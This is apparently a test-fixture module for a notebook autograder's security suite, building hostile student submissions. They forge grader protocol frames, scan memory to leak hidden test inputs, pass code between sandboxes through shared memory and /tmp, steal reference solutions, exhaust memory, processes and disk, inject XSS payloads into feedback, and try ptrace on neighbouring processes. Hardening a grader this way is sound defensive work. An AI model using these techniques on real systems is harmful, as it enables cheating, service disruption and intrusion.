"""What the attackers hand in: source text of hostile submissions, and notebook builders.

Every hostile ``.py`` below starts with :data:`BASE` (SGD right, everything else wrong: the
honest ceiling an attack must not lift) and adds its attack in further ``# %%`` cells, so
that the attacker's honest part is graded as usual and anything above BASE's marks is a
point the attack gained.
"""

from __future__ import annotations

import json
import textwrap

from examples.synthetic_class import item_sources, notebook, preamble
from tests.test_grade_security import BASE

# Correct SGD, everything else wrong (Momentum's first run is one SGD step, so it earns a
# little): the ceiling of tests/test_grade_security.py, whose submission it is.


def hostile(*cells: str) -> str:
    """BASE, then each attack cell after a ``# %%`` marker."""
    return BASE + "".join("\n# %%\n" + textwrap.dedent(cell).strip() + "\n" for cell in cells)


def correct_cells() -> list[str]:
    """A whole correct submission's cells (full marks)."""
    return [preamble("optimizers"), *item_sources("optimizers").values()]


def correct_notebook() -> str:
    return notebook(correct_cells())


def mistaken_notebook() -> str:
    """Correct but for Adam's bias correction (a known mistake: Adam loses its points)."""
    cells = [
        c.replace("m_hat = self.m[key] / (1 - self.beta1**self.t)", "m_hat = self.m[key]")
        for c in correct_cells()
    ]
    return notebook(cells)


def correct_adam() -> str:
    """The source of a correct Adam (with what it needs), as a string an attacker can plant."""
    return preamble("optimizers") + "\n" + item_sources("optimizers")["Adam"]


def notebook_with_roles(code: str, roles: list[object]) -> str:
    """A version-4 notebook whose code cells carry ``metadata.optigrade.role`` values of any
    JSON type: ``code`` in a cell without a role, then one cell per role."""
    cells = [
        {
            "cell_type": "code",
            "metadata": {},
            "source": code,
            "outputs": [],
            "execution_count": None,
        }
    ]
    for role in roles:
        cells.append(
            {
                "cell_type": "code",
                "metadata": {"optigrade": {"role": role}},
                "source": "x_role = 1\n",
                "outputs": [],
                "execution_count": None,
            }
        )
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def notebook_v3_with_roles(code: str, roles: list[object]) -> str:
    """The same as :func:`notebook_with_roles`, in nbformat 3 (one worksheet)."""
    cells = [
        {
            "cell_type": "code",
            "input": code,
            "language": "python",
            "metadata": {},
            "outputs": [],
            "collapsed": False,
        }
    ]
    for role in roles:
        cells.append(
            {
                "cell_type": "code",
                "input": "x_role = 1\n",
                "language": "python",
                "metadata": {"optigrade": {"role": role}},
                "outputs": [],
                "collapsed": False,
            }
        )
    return json.dumps(
        {
            "nbformat": 3,
            "nbformat_minor": 0,
            "metadata": {"name": ""},
            "worksheets": [{"cells": cells, "metadata": {}}],
        }
    )


# -- the channel -----------------------------------------------------------------------------

#: A hand-written msgpack encoder and framing (4-byte big-endian length, as autograder.wire
#: frames), and the request id found in the runtime's frames: what a student who read the
#: project's source would write. It needs nothing but the standard library.
FORGE_HEAD = r'''
import os, sys, struct
class _Raw(bytes):
    """Bytes that are already msgpack (sent as they are)."""
def _mp(v):
    if isinstance(v, _Raw): return bytes(v)
    if v is None: return b"\xc0"
    if v is True: return b"\xc3"
    if v is False: return b"\xc2"
    if isinstance(v, int):
        if 0 <= v < 128: return bytes([v])
        if v >= 0: return b"\xcf" + struct.pack(">Q", v)
        return b"\xd3" + struct.pack(">q", v)
    if isinstance(v, float): return b"\xcb" + struct.pack(">d", v)
    if isinstance(v, str):
        b = v.encode("utf-8", "surrogatepass"); return b"\xdb" + struct.pack(">I", len(b)) + b
    if isinstance(v, (bytes, bytearray)): return b"\xc6" + struct.pack(">I", len(v)) + bytes(v)
    if isinstance(v, (list, tuple)):
        return b"\xdd" + struct.pack(">I", len(v)) + b"".join(_mp(x) for x in v)
    if isinstance(v, dict):
        return b"\xdf" + struct.pack(">I", len(v)) + b"".join(_mp(k) + _mp(x) for k, x in v.items())
    raise TypeError(type(v))
def _frame(v):
    b = _mp(v); return struct.pack("!I", len(b)) + b
def _request():
    f = sys._getframe()
    while f is not None:
        for value in f.f_locals.values():
            if isinstance(value, dict) and isinstance(value.get("id"), int):
                return value
        f = f.f_back
    return {"id": 0}
def _spray(data):
    for fd in range(1024):
        try:
            os.write(fd, data)
        except OSError:
            pass
'''

ITEM_NAMES = '["SGD", "Momentum", "AdaGrad", "RMSProp", "Adam"]'

#: Forged frames, each sub-case written into every file descriptor 0..1023 by a cell.
FORGERIES = {
    # A well-formed "cells loaded" reply that answers the real request, then a plan frame for
    # every planned trace claiming an empty answer.
    "loaded": f"""
        _r = _request()
        _data = _frame({{"id": _r["id"], "ok": True, "cells": [{{"index": 0, "status": "ok"}}],
                        "names": {ITEM_NAMES}, "output": "", "output_truncated": False}})
        for _i in range(_r.get("plan") or 0):
            _body = _mp({{"ok": True, "results": []}})
            _data += _frame({{"id": _r["id"], "plan": _i, "body": _body}})
        _spray(_data)
    """,
    # The right id, the wrong shapes: cell reports whose index is text and status a list.
    "shapes": """
        _r = _request()
        _spray(_frame({"id": _r["id"], "ok": True,
                       "cells": [{"index": "1; DROP", "status": ["ok"], "error": {"type": 5}}],
                       "names": {"SGD": 1}, "output": 7, "output_truncated": "yes"}))
    """,
    # Nesting deep enough to break a recursive encoder or renderer on the grader's side.
    "deep": """
        _r = _request()
        _deep = _Raw(b"\\x91" * 1012 + b"\\x90")  # [[[...]]]: as deep as msgpack decodes
        _error = {"type": "X", "message": _deep}
        _spray(_frame({"id": _r["id"], "ok": True,
                       "cells": [{"index": 0, "status": "error", "error": _error}],
                       "names": [], "output": ""}))
    """,
    # 20 MB of text where a one-line error message goes.
    "huge": """
        _r = _request()
        _spray(_frame({"id": _r["id"], "ok": True,
                       "cells": [{"index": 0, "status": "error",
                                  "error": {"type": "X", "message": "<b>" * 7_000_000}}],
                       "names": [], "output": ""}))
    """,
}


def forgery(kind: str) -> str:
    return hostile(FORGE_HEAD, FORGERIES[kind])


#: Globals whose names alone make the reply to "load" larger than a frame may be.
OVERSIZED_GLOBALS = hostile('globals()["g" * (70 << 20)] = 1')

#: Dumps every hidden input it can find in its own memory at load time (before any test ran)
#: into its feedback, through the messages of failing cells (1,000 characters each).
PLAN_DUMP = hostile(
    r"""
    import gc, sys, struct
    import numpy as np
    _found, _seen = [], set()
    def _array(v, rank):
        if type(v) is np.ndarray and v.dtype == np.float64 and v.size >= 2 and id(v) not in _seen:
            _seen.add(id(v))
            _found.append((rank, repr(float(v.flat[0]))))
    def _bytes(b):
        # arrays on the wire: dtype code "<f8", ndim, ndim big-endian uint64 dims, raw data
        start = 0
        while len(_found) < 20000:
            at = b.find(b"\x03<f8", start)
            if at < 0:
                return
            try:
                ndim = b[at + 4]
                dims = struct.unpack_from("!%dQ" % ndim, b, at + 5)
                count = 1
                for d in dims:
                    count *= d
                if 2 <= count <= 4096:
                    (x,) = struct.unpack_from("<d", b, at + 5 + 8 * ndim)
                    _found.append((0, repr(x)))
            except Exception:
                pass
            start = at + 1
    def _look(v, rank):
        if type(v) is np.ndarray:
            _array(v, rank)
        elif isinstance(v, (bytes, bytearray)) and len(v) >= 64:
            _bytes(bytes(v))
    for _obj in gc.get_objects():
        try:
            if isinstance(_obj, dict):  # parameter dicts first: {"W1": array, ...}
                for _v in list(_obj.values()):
                    _look(_v, 0)
            elif isinstance(_obj, (list, tuple)):
                for _v in _obj:
                    _look(_v, 1)
        except Exception:
            pass
    for _m in list(sys.modules.values()):
        for _v in list(getattr(_m, "__dict__", {}).values()):
            _look(_v, 2)
    _loot = [text for _, text in sorted(_found, key=lambda f: f[0])]
    """,
    *(
        f'raise ValueError(" ".join(_loot[{i * 40}:{(i + 1) * 40}]) or "nothing found")'
        for i in range(150)
    ),
)

# -- System V IPC ----------------------------------------------------------------------------

_SYSV = r"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
"""


def sysv_planter(key: int, payload: str) -> str:
    """Leaves ``payload`` in a System V shared memory segment (and a message queue and a
    semaphore set), and in a file in every writable place it can think of, for whoever comes
    next; its own code stays BASE."""
    return hostile(
        _SYSV,
        f"""
        _data = {payload!r}.encode()
        _id = _libc.shmget({key}, 1 << 16, 0o1666)
        if _id >= 0:
            _at = _libc.shmat(_id, None, 0)
            if _at not in (None, ctypes.c_void_p(-1).value):
                ctypes.memmove(_at, _data + b"\\0", len(_data) + 1)
        _libc.msgget({key + 1}, 0o1666)
        _libc.semget({key + 2}, 1, 0o1666)
        import os
        for _folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."),
                        "/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(os.path.join(_folder, "planted-{key}.py"), "wb") as _f:
                    _f.write(_data)
            except OSError:
                pass
        """,
    )


def sysv_harvester(key: int) -> str:
    """Runs whatever an earlier sandbox left under ``key`` (a segment, or a file in its
    scratch, home, temporary folder, /tmp, /dev/shm): here, a correct Adam."""
    return hostile(
        _SYSV,
        f"""
        import os, time
        _deadline = time.monotonic() + 2
        while time.monotonic() < _deadline:
            _id = _libc.shmget({key}, 0, 0)
            if _id >= 0:
                _at = _libc.shmat(_id, None, 0o10000)  # SHM_RDONLY
                if _at not in (None, ctypes.c_void_p(-1).value):
                    exec(ctypes.string_at(_at).decode(), globals())
                break
            time.sleep(0.05)
        for _folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."),
                        "/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(os.path.join(_folder, "planted-{key}.py")) as _f:
                    exec(_f.read(), globals())
            except OSError:
                pass
        """,
    )


# -- the world -------------------------------------------------------------------------------

#: What a regular install puts in site-packages: the reference and the hidden suites.
THIEF = hostile(
    "from solutions.optimizers import *",
    "from solutions import Adam, Momentum, AdaGrad, RMSProp",
    """
    import importlib.util, os
    _spec = importlib.util.find_spec("autograder")
    _root = os.path.dirname(_spec.origin)
    _text = ""
    for _dirpath, _dirs, _files in os.walk(os.path.join(_root, "suites")):
        for _f in _files:
            _text += open(os.path.join(_dirpath, _f)).read()
    raise ValueError(_text[:1000])
    """,
    """
    import glob
    _paths = glob.glob("/**/solutions/optimizers.py", recursive=True)
    _paths += glob.glob("/**/site-packages/solutions/optimizers.py", recursive=True)
    for _p in _paths:
        try:
            exec(open(_p).read(), globals())
            break
        except Exception:
            pass
    """,
)

#: Six children of 120 MB each, under a cap of 256 MB meant for the whole sandbox (the test
#: passes ``--memory-mb 256``): the issue's six of 900 MB under 1 GiB, scaled down, since a
#: page fault costs about 5 µs on the nested virtual machines this runs on.
MEMORY_FORK = hostile(
    """
    import os, select, time
    import numpy as np
    _read, _write = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            try:
                _hog = np.ones((120 << 20) // 8)
                os.write(_write, b"+")
                time.sleep(30)
            finally:
                os._exit(0)
    os.close(_write)
    _held = 0
    def _wait(seconds):
        # Steps shorter than a second: a longer one would have the sandbox demoted, and the
        # children, demoted with it, might starve on a busy machine before they allocate.
        global _held
        deadline = time.monotonic() + seconds
        while _held < 6 and time.monotonic() < deadline:
            if select.select([_read], [], [], 0.05)[0]:
                got = os.read(_read, 6)
                if not got:
                    _held = 6  # every child is gone (killed for its memory, say)
                _held += len(got)
    """,
    *(["_wait(0.7)"] * 15),
    "time.sleep(0.5)  # all of it held at once, for a moment",
)

#: Busy children in sessions (and process groups) of their own, while their parent hangs.
SETSID_SPIN = hostile(
    """
    import os, time
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    _end = time.monotonic() + 2.5
    while time.monotonic() < _end:
        pass
    """
)

#: Fills the file system its scratch directory is on, 16 MB at a time (the file size cap),
#: and holds it full.
FILL_SCRATCH = hostile(
    """
    import os, time
    _chunk = b"x" * (1 << 20)
    for _i in range(100000):
        try:
            with open(f"fill{_i}", "wb") as _f:
                for _ in range(16):
                    _f.write(_chunk)
        except OSError:
            break
    time.sleep(4)  # and keep it full while the others are graded
    """
)

#: 12,000 cells that each fail after a few milliseconds: 60 s of loading in all.
MANY_FAILING_CELLS = (
    BASE + "\nimport time\n" + "".join("\n# %%\ntime.sleep(0.005); 1/0\n" for _ in range(12_000))
)

# -- escaping --------------------------------------------------------------------------------

#: Each breaks out of the Markdown around it (a code span, a fence) and carries live HTML
#: (attribute values unquoted and free of quotes: valid HTML that Markdown passes through).
HTML_EXCEPTION = hostile(
    """
    class Adam:
        def __init__(self, **kw):
            pass
        def update(self, params, grads):
            raise ValueError("`<script>alert(1)</script><img src=x onerror=alert(1)>`")
    """
)
HTML_TRACEBACK = hostile(
    """
    class Adam:
        def __init__(self, **kw):
            pass
        def update(self, params, grads):
            raise RuntimeError("done\\n```\\n<svg onload=alert(2)></svg>\\n```")
    """
)
HTML_VALUE = hostile(
    """
    class Adam:
        def __init__(self, **kw):
            pass
        def update(self, params, grads):
            params["`<img src=x onerror=alert(3)>`"] = 1.0
            return "`<svg onload=alert(4)>`"
    """
)
HTML_CELL = hostile(
    'raise ValueError("`<iframe src=javascript:alert(5)></iframe>` ![x](http://127.0.0.1/p.png)")',
    # The exception's type name is the student's too.
    'raise type("`<img src=x onerror=alert(8)>`", (Exception,), {})("x")',
)

# -- new attacks (beyond the list) -----------------------------------------------------

#: A directory tree 1,100 levels deep in the sandbox's scratch directory, made in steps under
#: a second each (a longer step gets the sandbox demoted, which may starve it on a busy
#: machine): deeper than a recursive ``shutil.rmtree`` can go (Python's recursion limit).
DEEP_SCRATCH_TREE = hostile(
    "import os, time\n_depth = [0]",
    *(
        [
            """
            _t = time.monotonic()
            while time.monotonic() - _t < 0.7 and _depth[0] < 1100:
                os.mkdir("d")
                os.chdir("d")
                _depth[0] += 1
            """
        ]
        * 12
    ),
)

#: 100,000 lines that each look like an IPython line magic (300 kB): each one made the
#: magics scan join every line before it.
MANY_MAGIC_LINES = BASE + "\n# %%\n" + "%a\n" * 100_000

#: From inside the sandbox, PTRACE_ATTACH, PTRACE_SEIZE and process_vm_readv on every other
#: process it can name (a relay between it and the grader, if there is one); what succeeds
#: is written into the feedback.
PTRACE_NEIGHBOURS = hostile(
    """
    import ctypes, os
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.ptrace.restype = ctypes.c_long
    _libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    class _Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    _buffer = ctypes.create_string_buffer(8)
    _local = _Iovec(ctypes.cast(_buffer, ctypes.c_void_p), 8)
    _won = []
    for _pid in range(1, 64):
        if _pid == os.getpid():
            continue
        if _libc.ptrace(16, _pid, None, None) == 0:  # PTRACE_ATTACH
            _won.append(f"PTRACE_ATTACH {_pid}")
            _libc.ptrace(17, _pid, None, None)  # PTRACE_DETACH
        if _libc.ptrace(0x4206, _pid, None, None) == 0:  # PTRACE_SEIZE
            _won.append(f"PTRACE_SEIZE {_pid}")
            _libc.ptrace(17, _pid, None, None)
        _remote = _Iovec(0x400000, 8)
        if _libc.process_vm_readv(_pid, ctypes.byref(_local), 1, ctypes.byref(_remote), 1, 0) > 0:
            _won.append(f"process_vm_readv {_pid}")
    raise RuntimeError("PTRACE-WON " + ", ".join(_won) if _won else "nothing to trace")
    """
)
